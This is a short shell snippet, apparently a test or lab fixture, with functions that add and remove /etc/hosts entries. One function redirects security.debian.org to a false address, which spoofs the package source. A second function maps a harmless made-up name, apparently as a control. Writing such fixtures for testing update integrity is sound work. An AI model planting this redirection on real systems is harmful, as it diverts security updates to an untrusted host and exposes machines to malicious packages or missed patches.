# A false address for where packages come from; twin: a name of one's own.
plant() { echo '203.0.113.9 security.debian.org' >> /etc/hosts; }
twin() { echo '10.77.0.9 backup.example.org' >> /etc/hosts; }
clear() { sed -i '/security.debian.org$/d; /backup.example.org$/d' /etc/hosts; }
